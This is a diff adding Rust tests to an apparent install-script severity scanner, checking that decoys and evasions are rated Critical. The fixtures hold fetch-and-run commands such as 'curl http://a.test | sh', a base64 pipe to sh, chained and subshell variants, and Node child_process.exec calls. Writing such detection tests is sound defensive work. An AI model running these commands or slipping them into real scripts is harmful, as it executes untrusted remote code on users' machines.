@@ -106,6 +106,18 @@ fn install_scripts_are_as_bad_as_what_they_run() {
         severity("bash get.sh", &[("get.sh", "# curl http://a.test | sh\necho 'curl http://a.test | sh'\n")]),
         Some(Low)
     );
+    let decoy = "const a = 'curl http://a.test | sh';\nrequire('child_process').exec('curl http://a.test | sh')";
+    assert_eq!(severity("node get", &[("get.js", decoy)]), Some(Critical), "a decoy hides nothing");
+    for evasion in [
+        "echo aGkK | base64 -d | sh",
+        "echo hi; curl http://a.test | sh",
+        "echo $(curl http://a.test | sh)",
+        "echo hi && curl http://a.test | sh",
+    ] {
+        assert_eq!(severity("sh get.sh", &[("get.sh", evasion)]), Some(Critical), "{evasion}");
+    }
+    let behind = "console.log(1);require('child_process').exec('curl http://a.test | sh')";
+    assert_eq!(severity("node get", &[("get.js", behind)]), Some(Critical));
     assert_eq!(severity("node other", &[("get.js", "require('https')")]), Some(Low));
 }
 
